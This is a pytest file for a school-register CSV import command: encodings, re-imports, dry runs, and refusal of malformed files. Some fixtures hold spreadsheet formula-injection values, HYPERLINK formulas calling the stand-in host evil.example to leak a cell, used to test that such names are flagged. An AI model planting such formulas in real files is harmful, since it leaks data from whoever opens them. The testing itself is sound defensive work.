"""`surveyapp establishments import`: the GIAS extract, re-imports, and every way a file is refused."""

from __future__ import annotations

from datetime import date

import pytest
from sqlalchemy import event, func, select

from surveyapp.activity.models import ActivityRecord
from surveyapp.establishments.models import Establishment, Trust
from surveyapp.extensions import db
from tests.establishments.gias_files import (
    BRONTE,
    GIAS_HEADER,
    NOTRE_DAME,
    OAKFIELD,
    ST_MARYS,
    gias_csv,
    gias_row,
    standard_rows,
    to_csv,
)


def run_import(runner, tmp_path, data: bytes, *options: str, name: str = "edubasealldata.csv"):
    path = tmp_path / name
    path.write_bytes(data)
    result = runner.invoke(args=["establishments", "import", str(path), *options])
    db.session.expire_all()
    return result


def by_urn() -> dict[str, Establishment]:
    return {e.urn: e for e in db.session.scalars(select(Establishment))}


def row_counts() -> tuple[int, int, int]:
    return tuple(
        db.session.scalar(select(func.count()).select_from(model)) for model in (Establishment, Trust, ActivityRecord)
    )


def test_a_gias_extract_in_windows_1252_is_imported_with_its_names_intact(runner, tmp_path):
    data = gias_csv()
    assert b"\x92" in data and b"\x96" in data  # a real cp1252 file, not UTF-8
    result = run_import(runner, tmp_path, data)
    assert result.exit_code == 0, result.output
    assert "4 new, 0 updated, 0 unchanged, 0 closed; trusts: 1 new, 0 renamed" in result.output
    register = by_urn()
    assert [register[urn].name for urn in ("100001", "100002", "100003", "100004")] == [
        ST_MARYS,
        OAKFIELD,
        NOTRE_DAME,
        BRONTE,
    ]
    oakfield = register["100002"]
    assert oakfield.type_name == "Academy converter" and oakfield.phase == "Secondary"
    assert oakfield.number_of_pupils == 1150 and oakfield.opened_on == date(2012, 9, 1)
    assert oakfield.la_code == "202" and oakfield.la_name == "Camden" and oakfield.district == "Northtown"
    assert oakfield.trust.uid == "5001" and oakfield.trust.name == "Northern Lights Academy Trust – North"
    assert register["100003"].trust_id == oakfield.trust_id and register["100003"].number_of_pupils is None
    assert register["100001"].trust_id is None and register["100001"].opened_on == date(1990, 9, 1)
    assert register["100001"].is_open and register["100001"].status_name == "Open"
    bronte = register["100004"]
    assert not bronte.is_open and bronte.status_name == "Closed" and bronte.closed_on == date(2024, 8, 31)
    entry = db.session.scalar(select(ActivityRecord).where(ActivityRecord.action == "establishments.imported"))
    assert entry.detail["new"] == 4 and entry.detail["new_trusts"] == 1 and entry.detail["file"] == "edubasealldata.csv"
    assert entry.actor_id is None


def test_utf8_with_a_byte_order_mark_is_imported(runner, tmp_path):
    result = run_import(runner, tmp_path, gias_csv(encoding="utf-8", bom=True))
    assert result.exit_code == 0, result.output
    assert by_urn()["100001"].name == ST_MARYS and by_urn()["100002"].name == OAKFIELD


def test_a_dry_run_reports_and_writes_nothing(runner, tmp_path):
    result = run_import(runner, tmp_path, gias_csv(), "--dry-run")
    assert result.exit_code == 0, result.output
    assert "Dry run" in result.output and "4 new" in result.output and "Nothing was changed" in result.output
    assert row_counts() == (0, 0, 0)


def test_a_reimport_updates_by_urn_and_leaves_absent_establishments_alone(runner, tmp_path, make):
    local = make.establishment(name="Little Acorns Pre-school", urn="EY-0042")
    db.session.commit()
    assert run_import(runner, tmp_path, gias_csv()).exit_code == 0
    rows = standard_rows()
    rows[0]["EstablishmentName"] = "St Mary’s CofE Primary School"  # renamed
    rows[1]["EstablishmentStatus (name)"] = "Closed"  # closed
    rows[1]["CloseDate"] = "31-08-2026"
    rows[1]["Trusts (name)"] = "Northern Lights Academy Trust"  # trust renamed
    rows[2]["Trusts (code)"] = rows[2]["Trusts (name)"] = ""  # left its trust
    rows[3]["EstablishmentStatus (name)"] = "Closed"  # still closed: unchanged
    rows.append(
        gias_row(
            "100005",
            "Hillside Infant School",
            status="Open, but proposed to close",
            trust_uid="5001",
            trust_name="Northern Lights Academy Trust",
        )
    )
    result = run_import(runner, tmp_path, gias_csv(rows))
    assert result.exit_code == 0, result.output
    assert "1 new, 3 updated, 1 unchanged, 1 closed; trusts: 0 new, 1 renamed" in result.output
    register = by_urn()
    assert register["100001"].name == "St Mary’s CofE Primary School"
    assert register["100002"].is_open is False and register["100002"].closed_on == date(2026, 8, 31)
    assert register["100003"].trust_id is None
    assert register["100005"].is_open is True  # "Open, but proposed to close" is still open
    assert register["100005"].trust.name == "Northern Lights Academy Trust"
    assert register["EY-0042"].name == local.name  # not in the file: left alone
    assert db.session.scalar(select(func.count()).select_from(Trust)) == 1


def test_short_column_names_and_a_minimal_file(runner, tmp_path):
    short = to_csv(
        [
            {
                "URN": "100001",
                "Name": "St Mary’s",
                "Type": "Academy converter",
                "Phase": "Primary",
                "Status": "Proposed to open",
                "Trust UID": "5001",
                "Trust name": "Oak Trust",
                "District": "Eastside",
            }
        ],
        encoding="utf-8",
    )
    assert run_import(runner, tmp_path, short).exit_code == 0
    school = by_urn()["100001"]
    assert (school.type_name, school.phase, school.district, school.trust.name) == (
        "Academy converter",
        "Primary",
        "Eastside",
        "Oak Trust",
    )
    assert school.is_open is False  # proposed to open: not yet in scope

    # Only the two required columns: other fields (and the trust) are left as they were.
    minimal = to_csv(
        [
            {"URN": "100001", "EstablishmentName": "St Mary’s School"},
            {"URN": "SET-001", "EstablishmentName": "Riverside Childminders"},
        ],
        encoding="utf-8",
    )
    result = run_import(runner, tmp_path, minimal)
    assert result.exit_code == 0, result.output
    register = by_urn()
    assert register["100001"].name == "St Mary’s School" and register["100001"].trust.uid == "5001"
    assert register["100001"].phase == "Primary" and register["100001"].is_open is False
    assert register["SET-001"].is_open is True and register["SET-001"].phase == ""


def _truncated() -> bytes:
    data = gias_csv()
    return data[: data.rindex(b"\r\n100004,") + 30]


def _duplicate() -> bytes:
    rows = standard_rows()
    rows.append(gias_row("100002", "Oakfield Again"))
    return gias_csv(rows)


def _formula() -> bytes:
    rows = standard_rows()
    rows[2]["EstablishmentName"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Notre Dame")'
    return gias_csv(rows)


def test_a_name_that_looks_like_a_formula_is_imported_as_given_and_flagged(runner, tmp_path):
    """The review's finding: a leading NBSP, vertical tab or form feed slipped a "=" name past the refusal;
    and refusing such names blocked the whole DfE extract, which is not the lead's to edit."""
    rows = standard_rows()
    rows[0]["EstablishmentName"] = '\u00a0=HYPERLINK("http://evil.example","x")'
    rows[1]["EstablishmentName"] = "\x0b+Saint Chad\u2019s\x0cPrimary"
    dry = run_import(runner, tmp_path, gias_csv(rows), "--dry-run")
    assert dry.exit_code == 0, dry.output
    assert "2 values look like spreadsheet formulas" in dry.output
    assert "line 2, column EstablishmentName" in dry.output and "line 3, column EstablishmentName" in dry.output
    done = run_import(runner, tmp_path, gias_csv(rows))
    assert done.exit_code == 0, done.output
    names = {e.name for e in by_urn().values()}
    assert '=HYPERLINK("http://evil.example","x")' in names and "+Saint Chad\u2019s Primary" in names


def _bad_number() -> bytes:
    rows = standard_rows()
    rows[1]["NumberOfPupils"] = "about 300"
    return gias_csv(rows)


def _bad_date() -> bytes:
    rows = standard_rows()
    rows[0]["OpenDate"] = "31-02-2020"
    return gias_csv(rows)


def _missing_column() -> bytes:
    header = [h for h in GIAS_HEADER if h != "EstablishmentName"]
    return to_csv(standard_rows(), header)


def _undecodable() -> bytes:
    return gias_csv().replace(b"1 School Lane", b"1 School\x8dLane", 1)


def _semicolons() -> bytes:
    return gias_csv(delimiter=";")


def _new_trust_without_a_name() -> bytes:
    rows = standard_rows()
    rows[1]["Trusts (name)"] = rows[2]["Trusts (name)"] = ""
    return gias_csv(rows)


@pytest.mark.parametrize(
    "build, expected",
    [
        (_truncated, "line 5: has 5 columns, the header has 28 — the file may have been cut short"),
        (_semicolons, "line 1: the file is separated by semicolons; save it as comma-separated CSV"),
        (_duplicate, "line 6, column URN: URN 100002 is also on line 3: each establishment must appear once"),
        (_undecodable, "line 2: byte 0x8D is not UTF-8 or Windows-1252 text"),
        (_missing_column, 'line 1: the file has no "EstablishmentName" column'),
        (_bad_number, 'line 3, column NumberOfPupils: "about 300" must be a whole number, like 420, or blank'),
        (_bad_date, 'line 2, column OpenDate: "31-02-2020" must be a real date'),
        (_new_trust_without_a_name, "line 3, column Trusts (name): trust 5001 is new: give its name"),
    ],
    ids=lambda value: value.__name__.strip("_") if callable(value) else "",
)
def test_a_bad_file_is_refused_whole_with_line_column_and_reason(runner, tmp_path, make, build, expected):
    make.establishment(urn="100001", name="Already here")
    db.session.commit()
    before = row_counts()
    result = run_import(runner, tmp_path, build())
    assert result.exit_code == 1
    assert "was not imported" in result.output and "nothing was changed" in result.output
    assert expected in result.output, result.output
    assert row_counts() == before
    assert by_urn()["100001"].name == "Already here"


def test_every_problem_is_printed_not_only_the_first(runner, tmp_path):
    rows = [gias_row(str(200000 + n), f"School {n}", pupils="lots") for n in range(60)]
    result = run_import(runner, tmp_path, gias_csv(rows))
    assert result.exit_code == 1
    assert "(60 problems)" in result.output and "line 61, column NumberOfPupils" in result.output
    assert row_counts() == (0, 0, 0)


def test_the_import_does_not_query_once_per_row(runner, tmp_path):
    rows = [
        gias_row(
            str(300000 + n),
            f"School {n}",
            pupils="" if n % 2 else "300",
            trust_uid=str(7000 + n % 10) if n % 3 else "",
            trust_name=f"Trust {n % 10}" if n % 3 else "",
        )
        for n in range(1500)
    ]
    statements: list[str] = []

    def count(conn, cursor, statement, *args):
        statements.append(statement)

    event.listen(db.engine, "before_cursor_execute", count)
    try:
        first = run_import(runner, tmp_path, gias_csv(rows))
        rows[0]["EstablishmentName"] = "Renamed"
        second = run_import(runner, tmp_path, gias_csv(rows))
    finally:
        event.remove(db.engine, "before_cursor_execute", count)
    assert first.exit_code == 0 and second.exit_code == 0, first.output + second.output
    assert "1500 new" in first.output and "1 updated, 1499 unchanged" in second.output
    # Two imports: a handful of statements each, however many rows (and however their blanks fall).
    assert len(statements) < 40, len(statements)
    assert db.session.scalar(select(func.count()).select_from(Establishment)) == 1500
